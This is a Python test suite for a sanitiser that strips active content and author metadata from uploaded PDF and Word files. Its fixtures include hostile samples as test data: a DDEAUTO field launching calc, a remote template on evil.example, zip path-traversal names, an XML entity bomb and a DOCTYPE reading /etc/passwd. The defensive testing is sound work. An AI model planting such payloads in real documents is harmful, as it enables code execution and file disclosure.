"""Papers: what acts or tells of its author is gone, the words stay, and what we cannot take has a reason."""

import io
import re
import struct
import zipfile
from pathlib import Path

import papers as made
import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from papers import MARKER, docx_bytes, pdf_bytes, relation, relations, words_xml
from PIL import Image

from portal.foundation.media.paper_reasons import PaperReason, PaperRefused
from portal.foundation.media.papers import CleanPaper, PaperCleanerBroken, clean_paper, read_answer
from portal.foundation.media.picture_notes import without_notes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@pytest.fixture
def clean(tmp_path: Path):
    def take(data: bytes, **limits) -> CleanPaper:
        path = tmp_path / "staged"
        path.write_bytes(data)
        return clean_paper(path, **limits)

    return take


@pytest.fixture
def reason(clean):
    def refused(data: bytes, **limits) -> PaperReason:
        with pytest.raises(PaperRefused) as caught:
            clean(data, **limits)
        return caught.value.reason

    return refused


def part(paper: CleanPaper, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(paper.data)) as packed:
        return packed.read(name).decode()


def parts(paper: CleanPaper) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(paper.data)) as packed:
        return set(packed.namelist())


# PDF


def test_the_words_and_pages_of_a_pdf_stay(clean):
    paper = clean(pdf_bytes(3, "He sang in the car."))
    assert paper.kind == "pdf"
    with pikepdf.open(io.BytesIO(paper.data)) as pdf:
        assert [b"He sang in the car." in page.Contents.read_bytes() for page in pdf.pages] == [True] * 3
        assert [list(page.mediabox) for page in pdf.pages] == [[0, 0, 300, 400]] * 3


def test_nothing_acts_or_tells_of_the_author_afterwards(clean):
    before, after = made.acting_pdf(), clean(made.acting_pdf()).data
    assert MARKER in made.everything_in(before)
    found = made.everything_in(after)
    assert MARKER not in found
    for name in ("JavaScript", "OpenAction", "Launch", "EmbeddedFile", "XFA", "RichMedia", "GoToR", "/AA", "/Author"):
        assert name not in found
    assert "file:///" not in found


def test_web_links_and_pictures_stay_and_what_was_typed_into_a_form_is_drawn_onto_the_page(clean):
    found = made.everything_in(clean(made.acting_pdf()).data)
    assert "https://example.org/a" in found
    assert "(Amir wrote this) Tj" in found
    with pikepdf.open(io.BytesIO(clean(made.acting_pdf()).data)) as pdf:
        picture = pikepdf.PdfImage(pdf.pages[0].Resources.XObject["/Metadata"]).as_pil_image()
    assert picture.size == (40, 30)


def filled_form(value: str, *, stale: bool) -> bytes:
    pdf = made.new_pdf()
    box = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("name"),
        V=pikepdf.String(value),
        DA=pikepdf.String("/F1 12 Tf 0 g"),
        Rect=[20, 300, 200, 320],
    )
    box = pdf.make_indirect(box)
    pdf.pages[0].obj.Annots = pikepdf.Array([box])
    fonts = pdf.pages[0].obj.Resources
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=[box], NeedAppearances=stale, DR=fonts, DA=pikepdf.String("/F1 12 Tf 0 g")
    )
    return made.as_bytes(pdf)


@pytest.mark.parametrize("stale", [True, False])
def test_a_form_keeps_its_words_or_is_refused_but_loses_none(clean, reason, stale):
    assert "(Tea at four) Tj" in made.everything_in(clean(filled_form("Tea at four", stale=stale)).data)
    assert reason(filled_form("چائے", stale=stale)) is PaperReason.NEEDS_ITS_PROGRAM


def test_a_form_that_draws_its_own_pages_is_refused(reason):
    pdf = made.new_pdf()
    pdf.Root.NeedsRendering = True
    assert reason(made.as_bytes(pdf)) is PaperReason.NEEDS_ITS_PROGRAM


def test_a_pdf_that_needs_a_password_is_told_so(reason):
    locked = made.as_bytes(made.new_pdf(), encryption=pikepdf.Encryption(user="tea", owner="milk"))
    assert reason(locked) is PaperReason.PASSWORD


def test_a_pdf_that_only_forbids_printing_is_taken_and_opens_freely(clean):
    held = made.as_bytes(made.new_pdf(), encryption=pikepdf.Encryption(user="", owner="milk"))
    with pikepdf.open(io.BytesIO(clean(held).data)) as pdf:
        assert not pdf.is_encrypted


def test_five_hundred_pages_are_taken_and_no_more(clean, reason):
    assert clean(pdf_bytes(500)).kind == "pdf"
    assert reason(pdf_bytes(501)) is PaperReason.TOO_MANY_PAGES


@pytest.mark.parametrize(
    "broken",
    [pdf_bytes()[:-200], b"%PDF-1.7\n", b"%PDF-1.7\nnothing here\n%%EOF", pdf_bytes().replace(b"/Pages", b"/Pagex")],
    ids=["cut off", "only a head", "nothing in it", "no pages"],
)
def test_a_damaged_pdf_is_told_so(reason, broken):
    assert reason(broken) is PaperReason.DAMAGED


# Word


def test_the_words_of_a_word_paper_stay_and_its_author_goes(clean):
    paper = clean(docx_bytes("He loved the number 9 bus."))
    assert paper.kind == "docx"
    assert "He loved the number 9 bus." in part(paper, "word/document.xml")
    assert parts(paper) == {"[Content_Types].xml", "_rels/.rels", "word/document.xml"}
    assert MARKER.encode() not in paper.data
    assert "docProps" not in part(paper, "_rels/.rels")


def full_docx() -> bytes:
    body = (
        "<w:body>"
        '<w:p><w:hyperlink r:id="r1"><w:r><w:t>the bus</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="r2"><w:r><w:t>a file</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="r3"/></w:object>'
        '</w:r></w:p><w:altChunk r:id="r4"/>'
        '<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="r5" r:link="r6"/></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAU</w:instrText></w:r>'
        '<w:r><w:instrText>TO c:\\\\calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown last</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://track.example/x&quot;"/></w:p>'
        "</w:body>"
    )
    return docx_bytes(
        more={
            "word/document.xml": words_xml(body),
            "word/_rels/document.xml.rels": relations(
                relation(1, "hyperlink", "https://example.org/bus", external=True),
                relation(2, "hyperlink", "file://server/share", external=True),
                relation(3, "oleObject", "embeddings/thing.bin"),
                relation(4, "aFChunk", "afchunk.mht"),
                relation(5, "image", "media/a.jpeg"),
                relation(6, "image", "https://track.example/y.png", external=True),
                relation(7, "settings", "settings.xml"),
            ),
            "word/settings.xml": words_xml(
                '<w:attachedTemplate r:id="r1"/><w:zoom w:percent="90"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>',
                "settings",
            ),
            "word/_rels/settings.xml.rels": relations(
                relation(1, "attachedTemplate", "http://evil.example/t.dotm", external=True)
            ),
            "word/embeddings/thing.bin": b"MZ" + bytes(50),
            "word/afchunk.mht": b"<html>",
            "word/media/a.jpeg": made.jpeg_with_notes(),
            "word/media/b.png": made.png_with_notes(),
            "word/people.xml": words_xml("", "people"),
            "customXml/item1.xml": f"<a>{MARKER}</a>",
        }
    )


def test_a_word_paper_points_to_nothing_outside_but_web_pages(clean):
    paper = clean(full_docx())
    links = part(paper, "word/_rels/document.xml.rels")
    assert set(re.findall(r'Id="(r\d)"', links)) == {"r1", "r5", "r7"}
    assert "https://example.org/bus" in links
    assert "Template" not in part(paper, "word/settings.xml") + part(paper, "word/_rels/settings.xml.rels")
    assert "SELECT" not in part(paper, "word/settings.xml")
    assert "zoom" in part(paper, "word/settings.xml")
    assert not parts(paper) & {
        "word/embeddings/thing.bin",
        "word/afchunk.mht",
        "word/people.xml",
        "customXml/item1.xml",
    }


def test_a_word_paper_keeps_its_words_and_no_pointer_without_an_end(clean):
    words = part(clean(full_docx()), "word/document.xml")
    assert {"the bus", "a file", "shown last"} <= set(re.findall(r"<w:t>([^<]+)</w:t>", words))
    assert set(re.findall(r'r:\w+="(r\d)"', words)) == {"r1", "r5"}
    assert "PAGE" in words
    for code in ("DDE", "TO c:", "INCLUDEPICTURE", "OLEObject", "altChunk"):
        assert code not in words


def test_pictures_in_a_word_paper_lose_their_notes(clean):
    with zipfile.ZipFile(io.BytesIO(clean(full_docx()).data)) as packed:
        pictures = [packed.read(name) for name in ("word/media/a.jpeg", "word/media/b.png")]
    for before, after in zip([made.jpeg_with_notes(), made.png_with_notes()], pictures, strict=True):
        assert MARKER.encode() in before
        assert MARKER.encode() not in after
        assert Image.open(io.BytesIO(after)).tobytes() == Image.open(io.BytesIO(before)).tobytes()


MACRO_TYPES = (
    f'<Types xmlns="{made.PACKAGE}/content-types"><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


@pytest.mark.parametrize(
    "more",
    [{"word/vbaProject.bin": b"x"}, {"[Content_Types].xml": MACRO_TYPES}, {"word/VBADATA.xml": "<a/>"}],
    ids=["a project", "by its type", "its data"],
)
def test_macros_are_refused_whole(reason, more):
    assert reason(docx_bytes(more=more)) is PaperReason.MACROS


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word\\..\\x.xml", "word/../../x.xml", "c:x.xml"])
def test_a_path_that_leads_out_is_refused(reason, name):
    assert reason(docx_bytes(more={name: "<a/>"})) is PaperReason.DAMAGED


def test_two_parts_of_one_name_are_refused(reason):
    assert reason(docx_bytes(more={"Word/Document.xml": "<a/>"})) is PaperReason.DAMAGED


def test_a_paper_that_unpacks_to_far_more_is_refused(reason):
    assert reason(docx_bytes(more={"word/media/a.bmp": bytes(20_000_000)})) is PaperReason.TOO_MUCH_INSIDE
    many = {f"word/x{n}.xml": "<a/>" for n in range(2_000)}
    assert reason(docx_bytes(more=many)) is PaperReason.TOO_MUCH_INSIDE


def test_a_part_that_lies_about_its_size_is_not_unpacked_further(reason):
    honest = docx_bytes(more={"word/styles.xml": "<a>" + " " * 500_000 + "</a>"})
    at = honest.rindex(b"word/styles.xml") - 46
    assert honest[at : at + 4] == b"PK\x01\x02"
    lying = honest[: at + 24] + struct.pack("<I", 10) + honest[at + 28 :]
    assert reason(lying) is PaperReason.DAMAGED


BOMB = '<!DOCTYPE a [<!ENTITY b "' + "x" * 1000 + '">]>' + words_xml("&b;" * 50).partition("?>")[2]


@pytest.mark.parametrize(
    "words", [BOMB, "<w:document", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'], ids=["entities", "cut", "a file"]
)
def test_words_with_a_document_type_or_broken_ones_are_refused(reason, words):
    assert reason(docx_bytes(more={"word/document.xml": words})) is PaperReason.DAMAGED


def test_a_word_paper_with_a_password_and_an_old_one_are_told_apart(reason):
    assert reason(OLE + "EncryptedPackage".encode("utf-16-le")) is PaperReason.PASSWORD
    assert reason(OLE + "WordDocument".encode("utf-16-le")) is PaperReason.OLD_WORD
    assert reason(OLE + "Workbook".encode("utf-16-le")) is PaperReason.NOT_A_PAPER


def test_a_cut_off_word_paper_is_damaged(reason):
    assert reason(docx_bytes()[:-60]) is PaperReason.DAMAGED


# Neither


@pytest.mark.parametrize(
    "other",
    [
        b"Just some words.",
        made.jpeg_with_notes(),
        b"{\\rtf1 hello}",
        docx_bytes(more={"[Content_Types].xml": None}),
        docx_bytes(more={"[Content_Types].xml": f'<Types xmlns="{made.PACKAGE}/content-types"/>'}),
    ],
    ids=["text", "photo", "rtf", "zip", "other office"],
)
def test_anything_else_is_no_paper_we_take(reason, other):
    assert reason(other) is PaperReason.NOT_A_PAPER


def test_an_empty_one_and_one_over_the_limit_are_not_opened(reason, clean):
    data = pdf_bytes()
    assert reason(b"") is PaperReason.EMPTY
    assert reason(data, max_bytes=len(data) - 1) is PaperReason.TOO_LARGE
    assert clean(data, max_bytes=len(data)).kind == "pdf"


def test_one_that_takes_too_long_is_stopped(reason):
    assert reason(pdf_bytes(), timeout_s=0.01) is PaperReason.TOOK_TOO_LONG


def test_without_room_to_work_it_is_our_fault(clean):
    with pytest.raises(PaperCleanerBroken):
        clean(pdf_bytes(), memory_mib=1)


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"nonsense\n",
        b'{"kind": "exe", "length": 1}\nx',
        b'{"kind": "pdf", "length": 5}\nMZMZM',
        b'{"reason": "?"}\n',
    ],
)
def test_an_answer_of_a_worker_that_was_taken_over_is_not_believed(answer):
    with pytest.raises(PaperCleanerBroken):
        read_answer(io.BytesIO(answer))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_notes_are_looked_for_in_any_bytes_without_harm(data):
    assert len(without_notes(b"\xff\xd8" + data)) <= len(data) + 2
    assert len(without_notes(b"\x89PNG\r\n\x1a\n" + data)) <= len(data) + 8
